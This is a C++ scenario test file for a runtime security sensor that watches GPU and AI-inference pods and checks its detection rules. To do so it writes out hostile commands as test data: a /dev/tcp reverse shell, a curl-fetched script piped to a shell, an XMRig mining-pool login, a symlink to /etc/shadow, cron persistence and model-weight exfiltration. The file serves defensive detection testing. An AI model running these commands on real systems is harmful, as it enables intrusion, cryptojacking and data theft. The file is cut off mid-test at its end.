// Scenario tests: the real `vigil run` with the bundled rules, watching real
// processes in stand-in pods on this machine, one scenario per rule category
// plus benign workloads that must raise nothing.
//
// The stand-ins: kubelet-style cgroups (systemd driver, containerd scopes)
// under the cgroup v2 root; a Kubernetes API stand-in on loopback serving the
// pods (LIST and WATCH); per pod a network namespace whose loopback carries the
// cluster and "public" addresses, with a DNS server and TCP sinks (a mining
// pool, a model hub) inside; a private /dev with NVIDIA device nodes that have
// the numbers of /dev/null (the sensor recognises them by name); Xid lines
// written to a FIFO that vigil reads as its kernel log (user space cannot write
// kernel-facility records to the real /dev/kmsg).
//
// Needs root and a kernel with BTF; skipped with a message otherwise.
#include "tests/scenarios/rig.h"

namespace {

TEST_F(Scenario, CryptoMiningInAGpuPod) {
  PodRun r;
  r.dns = {{"pool.supportxmr.com", "198.51.100.20"}};
  r.tcp_sinks = {"198.51.100.20:3333"};
  r.argv = {s().tool("xmrig"), "-o", "stratum+tcp://pool.supportxmr.com:3333", "-u", "44AFFq5kSiGBoZ4NMDwYtN18",
            "--donate-level",  "1"};
  r.steps =
      "dns:pool.supportxmr.com@10.96.0.10;open:/dev/nvidiactl:rw;open:/dev/nvidia0:rw;alloc:c6c0;"
      "tcp:198.51.100.20:3333;send:{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":"
      "\"44AFF\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/11.2.0\"}}\\n;sleep:300";
  auto [pid, rc] = run_in_pod(pod("miner-0"), r);
  ASSERT_EQ(rc, 0) << "the workload failed";
  expect_alert("Crypto miner binary executed", "miner-0", "Critical");
  expect_alert("Crypto miner command line", "miner-0", "Critical");
  expect_alert("DNS query for mining pool domain", "miner-0", "Critical");
  expect_alert("Stratum mining protocol on outbound connection", "miner-0", "Critical");
  expect_alert("GPU pod connection to mining pool port", "miner-0", "Error");
  // "GPU compute process connected to mining pool" needs an RM_ALLOC of a
  // compute class that the driver accepted. A stand-in node (the numbers of
  // /dev/null) fails every ioctl, so the allocation above must not count as GPU
  // compute; the rule itself is covered by rules/tests/crypto_mining_test.yaml.
  auto compute = alerts_for("GPU compute process connected to mining pool", "miner-0", 0ms);
  EXPECT_TRUE(compute.empty()) << "a failed allocation was taken for GPU compute: " << dump(compute);
  auto a = alerts_for("Crypto miner binary executed", "miner-0");
  if (!a.empty()) {
    EXPECT_EQ(a[0]["output_fields"].value("proc.pid", json()), pid);
  }
}

TEST_F(Scenario, GpuDeviceAccessOutsideTheAllocation) {
  PodRun nogpu;
  nogpu.argv = {s().tool("worker")};
  nogpu.steps = "open:/dev/nvidiactl:rw;open:/dev/nvidia0:rw";
  ASSERT_EQ(run_in_pod(pod("web-0"), nogpu).second, 0);
  expect_alert("GPU device opened by container without GPU allocation", "web-0", "Error");

  PodRun other;
  other.argv = {s().tool("worker")};
  other.steps =
      "open:/dev/nvidiactl:rw;open:/dev/nvidia0:rw;open:/dev/nvidia1:rw;"
      "open:/dev/nvidia-uvm-tools:rw;open:/dev/nvidia-caps/nvidia-cap1:r";
  ASSERT_EQ(run_in_pod(pod("train-1"), other).second, 0);
  expect_alert("GPU opened outside container allocation", "train-1", "Error");
  expect_alert("GPU profiler device opened in container", "train-1", "Warning");
  expect_alert("GPU management capability opened in container", "train-1", "Error");

  PodRun smi;
  smi.argv = {s().tool("nvidia-smi"), "-i", "0", "-pl", "450"};
  ASSERT_EQ(run_in_pod(pod("train-1"), smi).second, 0);
  expect_alert("GPU management tool run in container", "train-1", "Error");
  // The pod's own GPU (index 0) and the control nodes are fine.
  auto wrong = alerts_for("GPU device opened by container without GPU allocation", "train-1", 0ms);
  EXPECT_TRUE(wrong.empty()) << dump(wrong);
}

TEST_F(Scenario, ShellsInAnInferencePod) {
  // A model server that runs a shell (remote code execution).
  PodRun rce;
  rce.argv = {s().tool("vllm"), "serve", "/models/llama"};
  rce.steps = "exec:/bin/sh|-c|id > /dev/null";
  ASSERT_EQ(run_in_pod(pod("llm-0"), rce).second, 0);
  expect_alert("Shell spawned by inference server", "llm-0", "Critical");

  // A shell wired to a TCP connection, and one building it with /dev/tcp.
  PodRun rev;
  rev.tcp_sinks = {"198.51.100.9:4444"};
  rev.argv = {s().tool("worker")};
  rev.steps = "sockshell:198.51.100.9:4444;exec:/bin/bash|-c|exec 3<>/dev/tcp/198.51.100.9/4444 && echo hi >&3";
  ASSERT_EQ(run_in_pod(pod("llm-0"), rev).second, 0);
  auto shells = alerts_for("Reverse shell", "llm-0");
  ASSERT_FALSE(shells.empty()) << s().agent.stderr_text();
  s().agent.alerts([](const json&) { return false; }, 2s);
  shells = alerts_for("Reverse shell", "llm-0", 0ms);
  EXPECT_GE(shells.size(), 2u) << dump(shells);

  // kubectl exec -it: the runtime starts a shell on a terminal.
  PodRun tty;
  tty.argv = {s().tool("runc"), "exec"};
  tty.steps = "ttyshell:/bin/bash";
  ASSERT_EQ(run_in_pod(pod("llm-0"), tty).second, 0);
  expect_alert("Interactive shell in inference pod", "llm-0", "Warning");
}

TEST_F(Scenario, EgressFromAnInferencePod) {
  PodRun r;
  r.dns = {{"huggingface.co", "198.51.100.70"}};
  r.tcp_sinks = {"198.51.100.70:443", "203.0.113.50:443", "169.254.169.254:80"};
  r.argv = {s().tool("vllm"), "serve", "/models/llama"};
  r.steps = "dns:huggingface.co@10.96.0.10;tcp:198.51.100.70:443;tcp:203.0.113.50:443;tcp:169.254.169.254:80";
  ASSERT_EQ(run_in_pod(pod("llm-0"), r).second, 0);
  auto unexpected = alerts_for("Inference pod connection to unexpected destination", "llm-0");
  ASSERT_FALSE(unexpected.empty()) << s().agent.stderr_text();
  std::this_thread::sleep_for(1s);
  unexpected = alerts_for("Inference pod connection to unexpected destination", "llm-0", 0ms);
  for (const auto& a : unexpected) {
    std::string conn = a["output_fields"].value("fd.name", "");
    EXPECT_EQ(conn.find("198.51.100.70"), std::string::npos) << "the model hub was flagged: " << a.dump();
  }
  bool public_flagged = false;
  for (const auto& a : unexpected)
    if (a.dump().find("203.0.113.50") != std::string::npos) public_flagged = true;
  EXPECT_TRUE(public_flagged) << dump(unexpected);
  expect_alert("Cloud metadata service contacted from pod", "llm-0", "Warning");
}

// Sequence rules: a shell in an inference pod, then a public connection from
// the same container, is one alert carrying both steps; the same steps to a
// cluster address are not.
TEST_F(Scenario, SequencesAcrossProcessesInAPod) {
  PodRun quiet;
  quiet.tcp_sinks = {"10.100.4.7:6379"};
  quiet.argv = {s().tool("worker")};
  quiet.steps = "exec:/bin/sh|-c|true;tcp:10.100.4.7:6379";
  ASSERT_EQ(run_in_pod(pod("llm-seq-0"), quiet).second, 0);

  PodRun r;
  r.tcp_sinks = {"203.0.113.50:443"};
  r.argv = {s().tool("worker")};
  r.steps = "exec:/bin/sh|-c|true;tcp:203.0.113.50:443";
  auto [pid, rc] = run_in_pod(pod("llm-seq-0"), r);
  ASSERT_EQ(rc, 0) << "the workload failed";
  const std::string rule = "Shell then outbound connection in inference pod";
  expect_alert(rule, "llm-seq-0", "Critical");
  std::this_thread::sleep_for(1s);
  auto got = alerts_for(rule, "llm-seq-0", 0ms);
  ASSERT_EQ(got.size(), 1u) << "one alert per completed sequence:\n" << dump(got);
  const json& f = got[0]["output_fields"];
  EXPECT_EQ(f.value("step1.proc.name", json()), "sh") << got[0].dump();
  EXPECT_EQ(f.value("step1.proc.pname", json()), "worker") << got[0].dump();
  EXPECT_EQ(f.value("proc.name", json()), "worker") << got[0].dump();
  EXPECT_EQ(f.value("proc.pid", json()), pid) << got[0].dump();
  EXPECT_NE(f.value("fd.name", "").find("203.0.113.50:443"), std::string::npos) << got[0].dump();
}

TEST_F(Scenario, GpuXidsFromTheKernelLog) {
  s().kmsg(4, "NVRM: Xid (PCI:0000:3b:00): 79, pid='<unknown>', name=<unknown>, GPU has fallen off the bus.");
  auto fatal = s().agent.alerts(
      [](const json& a) {
        return a.value("rule", "") == "GPU Xid hardware failure" && a["output_fields"].value("gpu.xid", json()) == 79;
      },
      10s);
  ASSERT_FALSE(fatal.empty()) << s().agent.stderr_text();
  EXPECT_EQ(fatal[0].value("priority", ""), "Critical");
  // The kernel line names domain:bus:device (no function).
  EXPECT_EQ(fatal[0]["output_fields"].value("gpu.pci", json()), "0000:3b:00") << fatal[0].dump();

  // An application fault naming a process of a pod: attributed to that pod.
  PodRun r;
  r.argv = {s().tool("pt_main_thread"), "train.py"};
  r.steps = "open:/dev/nvidiactl:rw;alloc:c6c0;sleep:3000";
  pid_t seen = 0;
  std::thread job([&] { seen = run_in_pod(pod("pretrain-0"), r).first; });
  // Wait until the workload runs, then write its Xid.
  pid_t wpid = 0;
  for (int i = 0; i < 50 && wpid == 0; ++i) {
    std::this_thread::sleep_for(100ms);
    for (const auto& e : fs::directory_iterator("/proc")) {
      std::string n = e.path().filename();
      if (n.find_first_not_of("0123456789") != std::string::npos) continue;
      std::ifstream c(e.path() / "comm");
      std::string comm;
      std::getline(c, comm);
      std::ifstream cg(e.path() / "cgroup");
      std::string all((std::istreambuf_iterator<char>(cg)), std::istreambuf_iterator<char>());
      if (comm == "pt_main_thread" && all.find(pod("pretrain-0").id) != std::string::npos) {
        wpid = std::stoi(n);
        break;
      }
    }
  }
  ASSERT_NE(wpid, 0) << "the workload did not start";
  s().kmsg(4, "NVRM: Xid (PCI:0000:3b:00): 13, pid=" + std::to_string(wpid) +
                  ", name=pt_main_thread, Graphics SM Warp Exception on (GPC 1, TPC 0, SM 0): Misaligned Address");
  job.join();
  EXPECT_EQ(seen, wpid);
  expect_alert("GPU Xid application fault", "pretrain-0", "Warning");
}

// An Xid blamed on a process that already exited. The kernel log is read
// after the fact, and a fault often kills its job: the line arrives when the
// process is gone. It must still name the process, its container and its pod
// (exited processes are kept for state.process_grace_s, 60 s). With the 5 s
// kept before, more than 5 s of other events between the exit and the line
// left it with proc.* <NA> and container.id host.
TEST_F(Scenario, XidAfterTheProcessExitedNamesItsPod) {
  PodRun r;
  r.argv = {s().tool("pt_main_thread"), "hammer.py"};
  r.steps = "open:/dev/nvidia0:rw;sleep:200";
  auto [pid, rc] = run_in_pod(pod("fault-0"), r);
  ASSERT_EQ(rc, 0) << "the workload failed";
  // Event time moves on past the old 5 s: another process runs after it.
  std::this_thread::sleep_for(7s);
  PodRun later;
  later.argv = {s().tool("worker")};
  later.steps = "sleep:100";
  ASSERT_EQ(run_in_pod(pod("fault-0"), later).second, 0);
  s().kmsg(4, "NVRM: Xid (PCI:0000:3b:00): 94, pid=" + std::to_string(pid) +
                  ", name=pt_main_thread, Contained: SM (0x1). RST: No, D-RST: No");
  expect_alert("GPU Xid hardware error", "fault-0", "Error");
  auto got = alerts_for("GPU Xid hardware error", "fault-0");
  ASSERT_FALSE(got.empty());
  const auto& f = got[0]["output_fields"];
  EXPECT_EQ(f.value("proc.pid", json()), pid) << got[0].dump();
  EXPECT_EQ(f.value("proc.name", json()), "pt_main_thread") << got[0].dump();
  EXPECT_NE(f.value("proc.cmdline", std::string()).find("hammer.py"), std::string::npos) << got[0].dump();
}

// The driver's ioctl surface (rules/vigil_rules_nvidia_driver.yaml), through
// the stand-in /dev/nvidiactl (the numbers of /dev/null: every call fails,
// the attempt is what the rules judge). A CUDA-like start-up stays quiet; an
// escape number no driver defines, an allocation of a class the driver
// surface table does not know and a profiler object each alert.
TEST_F(Scenario, NvidiaDriverSurface) {
  PodRun cuda;
  cuda.argv = {s().tool("pt_main_thread"), "train.py"};
  // Version check, card info, client, GPU ids, device and subdevice, the MIG
  // config and monitor sessions and the debugger object CUDA 580 allocates at
  // start-up, address space, channel group, subcontext, channel, compute and
  // copy objects, the debugger's exception mask, the perf boost, memory, map.
  cuda.steps =
      "open:/dev/nvidiactl:rw;open:/dev/nvidia0:rw;open:/dev/nvidia-uvm:rw;escape:d2;escape:c8;alloc:41;"
      "control:201;control:202;control:214;escape:d4;alloc:80;alloc:2080;control:20800102;alloc:c639;alloc:c640;"
      "alloc:90f1;alloc:a06c;alloc:9067;alloc:c86f;alloc:cbc0;alloc:c8b5;alloc:83de;control:83de0309;"
      "control:2080200a;alloc:40;escape:4e;escape:29;sleep:1500";
  ASSERT_EQ(run_in_pod(pod("cuda-0"), cuda).second, 0);

  PodRun probe;
  probe.argv = {s().tool("worker")};
  probe.steps = "open:/dev/nvidiactl:rw;alloc:41;escape:26;alloc:beef;alloc:b2cc;sleep:1500";
  auto [probe_pid, rc] = run_in_pod(pod("probe-0"), probe);
  ASSERT_EQ(rc, 0);
  expect_alert("Unknown NVIDIA driver call from container", "probe-0", "Warning");
  expect_alert("GPU profiler or debugger call from container", "probe-0", "Warning");
  // Both unknown calls arrived one by one: the escape 0x26 (not the first
  // call on the node) and the class 0xBEEF (not a class the sensor sends
  // for its own sake).
  auto unknown = alerts_for("Unknown NVIDIA driver call from container", "probe-0", 3s);
  bool escape = false, cls = false;
  for (const auto& a : unknown) {
    const auto& f = a["output_fields"];
    EXPECT_EQ(f.value("proc.pid", json()), probe_pid) << a.dump();
    EXPECT_TRUE(a.value("tags", json::array()).dump().find("gpu_driver") != std::string::npos) << a.dump();
    if (f.value("gpu.ioctl.nr", json()) == 0x26) escape = true;
    if (f.value("gpu.class", json()) == 0xBEEF) cls = true;
  }
  EXPECT_TRUE(escape) << "no alert for escape 0x26: " << dump(unknown);
  EXPECT_TRUE(cls) << "no alert for class 0xBEEF: " << dump(unknown);

  auto quiet = any_alert({"cuda-0"}, {});
  EXPECT_TRUE(quiet.empty()) << "a CUDA-like start-up raised alerts: " << dump(quiet);
}

TEST_F(Scenario, TamperingWithTheNode) {
  PodRun r;
  r.argv = {s().tool("bpfloader")};
  r.steps = "bpf;open:/dev/kmsg:w;open:/dev/mem:r";
  ASSERT_EQ(run_in_pod(pod("job-0"), r).second, 0);
  // From a pod, any bpf() call is the container rule's (Critical); the
  // host rule, a Warning, is for host processes only.
  expect_alert("BPF activity in container", "job-0", "Critical");
  EXPECT_TRUE(alerts_for("BPF program loaded by unexpected process", "job-0", 0ms).empty());
  expect_alert("Kernel log opened for writing in container", "job-0", "Error");
  expect_alert("Host memory device opened in container", "job-0", "Critical");

  // An Xid line written from user space: its facility is LOG_USER, not the kernel's.
  s().kmsg(12, "NVRM: Xid (PCI:0000:3b:00): 48, pid='<unknown>', name=<unknown>, forged DBE");
  auto forged =
      s().agent.alerts([](const json& a) { return a.value("rule", "") == "Forged NVIDIA kernel message"; }, 10s);
  ASSERT_FALSE(forged.empty()) << s().agent.stderr_text();
  EXPECT_EQ(forged[0].value("priority", ""), "Critical");
  auto counted = s().agent.alerts([](const json& a) {
    return a.value("rule", "").rfind("GPU Xid", 0) == 0 && a["output_fields"].value("gpu.xid", json()) == 48;
  });
  EXPECT_TRUE(counted.empty()) << "a forged Xid was taken for a GPU error: " << dump(counted);
}

// The NVIDIA stack as a way out (issue: toolkit hooks, device nodes, the
// runtime socket, CUDA injection), each staged by its real mechanics: a real
// shared object loaded through LD_PRELOAD by a hook-named program, a link
// planted in a stand-in container root that the hook follows onto the host,
// a real mknod of major 195, a real unix connect to a socket named like
// containerd's; and the benign look-alikes beside them.
TEST_F(Scenario, NvidiaStackAttackSurface) {
  const std::string root = s().tmp + "/rootfs";
  fs::create_directories(root + "/usr/lib64");
  fs::create_symlink("/etc/shadow", root + "/usr/lib64/libcuda.so");
  // The runtime's socket: a listening unix socket named as containerd's.
  const std::string sock_path = s().tmp + "/containerd.sock";
  int srv = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  ASSERT_GE(srv, 0);
  sockaddr_un sa{};
  sa.sun_family = AF_UNIX;
  std::strncpy(sa.sun_path, sock_path.c_str(), sizeof(sa.sun_path) - 1);
  ASSERT_EQ(bind(srv, reinterpret_cast<sockaddr*>(&sa), sizeof(sa)), 0) << std::strerror(errno);
  ASSERT_EQ(listen(srv, 8), 0);

  // NVIDIAScape: the hook, started with the image's LD_PRELOAD and the
  // container root as its working directory, loads the image's library.
  PodRun hook;
  hook.argv = {s().tool("nvidia-ctk"), "hook", "update-ldcache", "--folder", "/usr/lib64"};
  hook.env = {std::string("LD_PRELOAD=") + VIGIL_PRELOAD};
  hook.cwd = root;
  // CVE-2024-0132-style: the hook opens a path in the image that links to a host file.
  hook.steps = "open:usr/lib64/libcuda.so:r";
  ASSERT_EQ(run_in_pod(pod("gpu-stack-0"), hook).second, 0);
  expect_alert("NVIDIA toolkit hook started with loader variables", "gpu-stack-0", "Critical");
  expect_alert("NVIDIA toolkit hook loaded a library from outside the host library directories", "gpu-stack-0",
               "Critical");
  expect_alert("NVIDIA toolkit hook touched a sensitive host file", "gpu-stack-0", "Critical");
  auto loaded =
      alerts_for("NVIDIA toolkit hook loaded a library from outside the host library directories", "gpu-stack-0", 0ms);
  ASSERT_FALSE(loaded.empty());
  EXPECT_EQ(loaded[0]["output_fields"].value("fd.name", ""), fs::canonical(VIGIL_PRELOAD).string()) << dump(loaded);
  auto touched = alerts_for("NVIDIA toolkit hook touched a sensitive host file", "gpu-stack-0", 0ms);
  ASSERT_FALSE(touched.empty());
  EXPECT_EQ(touched[0]["output_fields"].value("fd.name", ""), "/etc/shadow") << dump(touched);

  // CVE-2021-1056: a GPU node made by hand in a pod; then the runtime socket;
  // then a CUDA injection library in a workload's environment.
  PodRun attack;
  attack.argv = {s().tool("worker")};
  attack.env = {"CUDA_INJECTION64_PATH=/tmp/libspy.so"};
  attack.steps = "mknod:/dev/nvidia7:195:7;unix:" + sock_path;
  ASSERT_EQ(run_in_pod(pod("gpu-stack-0"), attack).second, 0);
  expect_alert("NVIDIA device node created in container", "gpu-stack-0", "Critical");
  expect_alert("Container connected to the container runtime socket", "gpu-stack-0", "Critical");
  expect_alert("CUDA injection library set in container", "gpu-stack-0", "Warning");
  auto node = alerts_for("NVIDIA device node created in container", "gpu-stack-0", 0ms);
  ASSERT_FALSE(node.empty());
  EXPECT_EQ(node[0]["output_fields"].value("gpu.minor", json()), 7) << dump(node);
  EXPECT_EQ(node[0]["output_fields"].value("gpu.allowed", json()), false) << dump(node);

  // The look-alikes: the hook with a clean environment doing its job (host
  // libraries, its ld cache), the runtime creating the container's nodes, a
  // workload using its own unix socket and ordinary CUDA variables.
  PodRun clean;
  clean.argv = {s().tool("nvidia-ctk"), "hook", "update-ldcache", "--folder", "/usr/lib64"};
  clean.cwd = root;
  clean.steps = "open:/etc/ld.so.cache:r";
  ASSERT_EQ(run_in_pod(pod("gpu-stack-ok-0"), clean).second, 0);
  PodRun runtime;
  runtime.argv = {s().tool("runc"), "init"};
  runtime.steps = "mknod:/dev/nvidia0-new:195:0";
  ASSERT_EQ(run_in_pod(pod("gpu-stack-ok-0"), runtime).second, 0);
  PodRun work;
  work.argv = {s().tool("worker")};
  work.env = {"CUDA_VISIBLE_DEVICES=0", "CUDA_MODULE_LOADING=LAZY"};
  work.steps = "mknod:/dev/fifo-not-a-gpu:1:3";
  ASSERT_EQ(run_in_pod(pod("gpu-stack-ok-0"), work).second, 0);
  auto quiet = any_alert({"gpu-stack-ok-0"}, {});
  EXPECT_TRUE(quiet.empty()) << dump(quiet);
  close(srv);
}

TEST_F(Scenario, BenignWorkloadsRaiseNothing) {
  std::set<long> pids;
  // An inference server on its allocated GPU talking to cluster services and the model hub.
  PodRun inf;
  inf.dns = {{"redis.cache.svc.cluster.local", "10.100.4.7"}, {"huggingface.co", "198.51.100.70"}};
  inf.tcp_sinks = {"10.100.4.7:6379", "198.51.100.70:443"};
  inf.argv = {s().tool("vllm"), "serve", "/models/llama-3-8b", "--port", "8000"};
  inf.steps =
      "open:/dev/nvidiactl:rw;open:/dev/nvidia1:rw;open:/dev/nvidia-uvm:rw;alloc:c56f;alloc:c6c0;"
      "control:20800110;dns:redis.cache.svc.cluster.local@10.96.0.10;tcp:10.100.4.7:6379;"
      "send:*1\\r\\n$4\\r\\nPING\\r\\n;dns:huggingface.co@10.96.0.10;tcp:198.51.100.70:443;"
      "send:GET /api/models HTTP/1.1\\r\\nHost: huggingface.co\\r\\n\\r\\n";
  auto [ipid, irc] = run_in_pod(pod("llm-ok-0"), inf);
  EXPECT_EQ(irc, 0);
  pids.insert(ipid);

  // A training job on its two GPUs, with its rendezvous peer on a pool-like port.
  PodRun tr;
  tr.tcp_sinks = {"10.244.3.18:4444"};
  tr.argv = {s().tool("pt_main_thread"),
             "-m",
             "torch.distributed.run",
             "--nproc_per_node=2",
             "train.py",
             "--optimizer",
             "adamw"};
  tr.steps = "open:/dev/nvidiactl:rw;open:/dev/nvidia0:rw;open:/dev/nvidia1:rw;alloc:c6c0;tcp:10.244.3.18:4444";
  auto [tpid, trc] = run_in_pod(pod("pretrain-0"), tr);
  EXPECT_EQ(trc, 0);
  pids.insert(tpid);

  // A batch pod running shell scripts.
  std::string script = s().tmp + "/etl.sh";
  std::ofstream(script) << "#!/bin/sh\nfor i in 1 2 3; do echo $i; done | /bin/sh -c 'wc -l' > /dev/null\n";
  chmod(script.c_str(), 0755);
  PodRun etl;
  etl.argv = {s().tool("etl")};
  etl.steps = "exec:/bin/sh|" + script;
  auto [epid, erc] = run_in_pod(pod("etl-0"), etl);
  EXPECT_EQ(erc, 0);
  pids.insert(epid);

  // nvidia-smi on the host, changing the power limit (the admin's job).
  pid_t h = fork();
  if (h == 0) {
    setenv("VIGIL_STEPS", "open:/dev/null:rw", 1);
    execl(s().tool("nvidia-smi").c_str(), "nvidia-smi", "-pl", "300", static_cast<char*>(nullptr));
    _exit(127);
  }
  waitpid(h, nullptr, 0);
  pids.insert(h);

  auto got = any_alert({"llm-ok-0", "pretrain-0", "etl-0"}, pids);
  // The training pod may legitimately carry the Xid alert of the Xid scenario.
  std::vector<json> bad;
  for (const auto& a : got)
    if (a.value("rule", "").rfind("GPU Xid", 0) != 0) bad.push_back(a);
  EXPECT_TRUE(bad.empty()) << "benign workloads raised alerts:\n" << dump(bad);
}

// AI-infrastructure intrusions (ShadowRay 2.0's steps after its job runs,
// and model theft), each by its real mechanics in a Ray worker pod or an
// inference pod: a real prctl(PR_SET_NAME) and an exec with a chosen argv[0],
// a stratum login, a real kill of a process the sender did not start, real
// opens for writing of /etc/hosts (O_APPEND, nothing written: left intact) and
// of a cron spool (in a tmpfs over the pod's own /var/spool), a fetched script
// handed to a shell and a file written then run under a raylet, the same file
// started in a second Ray pod, weights read then a public connection.
TEST_F(Scenario, AiInfrastructureIntrusions) {
  // The miner renames itself dns-filter, then logs in to its pool.
  PodRun miner;
  miner.tcp_sinks = {"198.51.100.20:3333"};
  miner.argv = {s().tool("xmrig"), "--cpu-max-threads-hint", "60"};
  miner.steps =
      "rename:dns-filter;tcp:198.51.100.20:3333;send:{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{"
      "\"login\":\"44AFF\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0\"}}\\n;execa:" +
      s().tool("rival") + "|dns-filter|--quiet";
  auto [mpid, mrc] = run_in_pod(pod("ray-0"), miner);
  ASSERT_EQ(mrc, 0) << "the workload failed";
  expect_alert("Process renamed in container", "ray-0", "Error");
  expect_alert("Stratum mining protocol on outbound connection", "ray-0", "Critical");
  auto renamed = alerts_for("Process renamed in container", "ray-0");
  std::this_thread::sleep_for(1s);
  renamed = alerts_for("Process renamed in container", "ray-0", 0ms);
  bool by_comm = false, by_argv0 = false;
  for (const auto& a : renamed) {
    const json& f = a["output_fields"];
    if (f.value("proc.renamed_by", "") == "comm") {
      by_comm = true;
      EXPECT_EQ(f.value("thread.name", ""), "dns-filter") << a.dump();
      EXPECT_EQ(f.value("proc.name", ""), "xmrig") << a.dump();
      EXPECT_EQ(f.value("proc.pid", json()), mpid) << a.dump();
    }
    if (f.value("proc.renamed_by", "") == "argv0") {
      by_argv0 = true;
      EXPECT_EQ(f.value("proc.exe", ""), "dns-filter") << a.dump();
      EXPECT_EQ(f.value("proc.name", ""), "rival") << a.dump();
    }
  }
  EXPECT_TRUE(by_comm) << "no alert for the prctl rename:\n" << dump(renamed);
  EXPECT_TRUE(by_argv0) << "no alert for the exec with argv[0] dns-filter:\n" << dump(renamed);

  // A rival miner the attacker did not start, killed.
  const std::string rival_path = s().tool("rival");
  vigil::support::Child rival = vigil::support::Child::run(
      [&] {
        setenv("VIGIL_STEPS", "sleep:20000", 1);
        execl(rival_path.c_str(), rival_path.c_str(), "--url", "pool.rival.example:3333", static_cast<char*>(nullptr));
        return 127;
      },
      {.cgroup = pod("ray-0").scope});
  ASSERT_GT(rival.pid(), 0);
  std::this_thread::sleep_for(500ms);
  PodRun killer;
  killer.argv = {s().tool("xmrig")};
  killer.steps = "kill:" + std::to_string(rival.pid()) + ":9";
  ASSERT_EQ(run_in_pod(pod("ray-0"), killer).second, 0);
  rival.wait(5s);
  expect_alert("Signal sent to process not started by sender in container", "ray-0", "Warning");
  auto kills = alerts_for("Signal sent to process not started by sender in container", "ray-0", 0ms);
  ASSERT_FALSE(kills.empty());
  EXPECT_EQ(kills[0]["output_fields"].value("target.pid", json()), rival.pid()) << dump(kills);
  EXPECT_EQ(kills[0]["output_fields"].value("target.name", json()), "rival") << dump(kills);
  EXPECT_EQ(kills[0]["output_fields"].value("evt.arg.sig", json()), "SIGKILL") << dump(kills);

  // /etc/hosts and a cron spool opened for writing (nothing written).
  PodRun persist;
  persist.argv = {s().tool("worker")};
  persist.steps =
      "open:/etc/hosts:a;tmpfs:/var/spool;mkdir:/var/spool/cron;mkdir:/var/spool/cron/crontabs;"
      "open:/var/spool/cron/crontabs/root:c";
  ASSERT_EQ(run_in_pod(pod("ray-0"), persist).second, 0);
  expect_alert("Name resolution file written in container", "ray-0", "Error");
  expect_alert("Cron or at job written in container", "ray-0", "Error");
  auto cron = alerts_for("Cron or at job written in container", "ray-0", 0ms);
  ASSERT_FALSE(cron.empty());
  EXPECT_EQ(cron[0]["output_fields"].value("fd.name", ""), "/var/spool/cron/crontabs/root") << dump(cron);

  // A raylet-named parent hands a fetched script to a shell, and writes a
  // program to /tmp then runs it.
  const std::string dropped = s().tmp + "/dns-filter";
  PodRun job;
  job.argv = {s().tool("raylet"), "--node_ip_address=10.244.1.9"};
  // (The workload's exec step splits its argument at '|' and its steps at ';':
  // the fetch is run as `sh -c "$(curl ...)"`, the same shape as `curl | sh`.)
  job.steps =
      "exec:/bin/sh|-c|sh -c \"$(curl -s --max-time 1 http://198.51.100.9:8080/s.sh)\";copy:/proc/self/exe:" + dropped +
      ";exec:" + dropped;
  job.child_steps = "sleep:500";  // the payload runs a while: long enough for its file to be hashed
  ASSERT_EQ(run_in_pod(pod("ray-0"), job).second, 0);
  expect_alert("Fetched script run by AI framework", "ray-0", "Critical");
  if (alerts_for("Fetched script run by AI framework", "ray-0", 0ms).empty())
    ADD_FAILURE() << "alerts of ray-0:\n" << dump(any_alert({"ray-0"}, {}));
  expect_alert("File written then run by AI framework", "ray-0", "Critical");

  // The same payload dropped and started in a second pod of the cluster.
  PodRun spread;
  spread.argv = {s().tool("raylet"), "--node_ip_address=10.244.2.9"};
  spread.steps = "copy:/proc/self/exe:" + dropped + "-2;exec:" + dropped + "-2";
  spread.child_steps = "sleep:500";
  ASSERT_EQ(run_in_pod(pod("ray-2"), spread).second, 0);
  expect_alert("Same dropped program started in several pods", "ray-2", "Error");
  auto spread_alerts = alerts_for("Same dropped program started in several pods", "ray-2", 0ms);
  ASSERT_FALSE(spread_alerts.empty());
  EXPECT_EQ(spread_alerts[0]["output_fields"].value("step1.k8s.pod.name", json()), "ray-0") << dump(spread_alerts);

  // Weights read by tar in an inference pod, then a public connection.
  PodRun steal;
  steal.tcp_sinks = {"203.0.113.50:443"};
  steal.argv = {s().tool("tar"), "czf", "-", "/root/.cache/huggingface"};
  steal.steps =
      "tmpfs:/root;mkdir:/root/.cache;mkdir:/root/.cache/huggingface;"
      "copy:/proc/self/exe:/root/.cache/huggingface/model.safetensors;"
      "open:/root/.cache/huggingface/model.safetensors:r;tcp:203.0.113.50:443";
  ASSERT_EQ(run_in_pod(pod("llm-steal-0"), steal).second, 0);
  expect_alert("Model weights read then sent out", "llm-steal-0", "Critical");
  auto stolen = alerts_for("Model weights read then sent out", "llm-steal-0", 0ms);
  ASSERT_FALSE(stolen.empty());
  EXPECT_EQ(stolen[0]["output_fields"].value("step1.fd.name", ""), "/root/.cache/huggingface/model.safetensors")
      << dump(stolen);

  // The server itself pushes 20 MB to an address of its choosing (Bleeding
  // Llama's /api/push to an attacker's registry): counted per packet in the
  // kernel, reported each second, over the 16 MiB budget.
  PodRun push;
  push.addrs.push_back("203.0.113.60");
  push.tcp_sinks = {"203.0.113.60:443"};
  push.argv = {s().tool("ollama"), "serve"};
  push.steps = "tcp:203.0.113.60:443;push:20971520;sleep:1500";
  ASSERT_EQ(run_in_pod(pod("llm-push-0"), push).second, 0);
  expect_alert("Inference pod sent data beyond its egress budget", "llm-push-0", "Critical");
  auto pushed = alerts_for("Inference pod sent data beyond its egress budget", "llm-push-0", 0ms);
  ASSERT_FALSE(pushed.empty());
  const json& pf = pushed[0]["output_fields"];
  EXPECT_EQ(pf.value("fd.sip", ""), "203.0.113.60") << dump(pushed);
  EXPECT_EQ(pf.value("fd.sport", json()), 443) << dump(pushed);
  EXPECT_GE(pf.value("net.egress.window_bytes", json(0)).get<std::int64_t>(), 16777216) << dump(pushed);
}

// The look-alikes: a Ray worker's ordinary tasks (listening on its worker
// port, running a subprocess, a shell ending its own child), an inference
// server loading its weights then talking to the model hub, a training job
// reading its checkpoint then uploading it (30 MB), the container runtime
// pulling an image on the host.
TEST_F(Scenario, AiInfrastructureLookAlikesRaiseNothing) {
  std::set<long> pids;
  PodRun worker;
  worker.argv = {s().tool("ray::IDLE")};
  worker.steps =
